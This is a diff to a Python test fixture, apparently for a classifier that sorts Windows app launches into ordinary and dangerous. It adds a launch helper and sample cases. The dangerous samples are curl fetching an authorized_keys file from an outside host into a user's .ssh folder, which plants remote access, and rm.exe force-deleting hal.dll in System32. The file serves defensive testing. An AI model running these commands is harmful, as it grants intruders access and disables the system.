@@ -97,6 +97,10 @@ def _fs(mode: str, path: str, **extra: object) -> dict[str, object]:
     return {"mode": mode, "path": path, **extra}
 
 
+def _app_exe(executable: str, args: list[str], cwd: str) -> dict[str, object]:
+    return {"mode": "launch_executable", "executable": executable, "args": args, "cwd": cwd}
+
+
 def _reg(mode: str, path: str, name: str | None = None) -> dict[str, object]:
     return {"mode": mode, "path": path} if name is None else {"mode": mode, "path": path, "name": name}
 
@@ -4319,6 +4323,18 @@ ORDINARY += [
     ("PowerShell", _ps(r"git clone --depth 1 https://github.com/x/y.git C:\src\y")),
     ("PowerShell", _ps(r"cmd /c mklink /J C:\t\j D:\data")),
 ]
+
+# A program started in a working folder reads its relative paths from there (S-RULE-150).
+_GIT_RM = r"C:\Program Files\Git\usr\bin\rm.exe"
+DANGEROUS += [
+    (
+        "App",
+        _app_exe(r"C:\Windows\System32\curl.exe", ["-O", "https://x.example/authorized_keys"], r"C:\Users\me\.ssh"),
+        "account-change",
+    ),
+    ("App", _app_exe(_GIT_RM, ["-f", "hal.dll"], r"C:\Windows\System32"), "protected-place-delete"),
+]
+ORDINARY += [("App", _app_exe(_GIT_RM, ["-f", "notes.txt"], r"C:\Users\me\Documents"))]
 
 CATEGORY_OF: dict[str, str] = {
     "recursive-delete": "destruction",
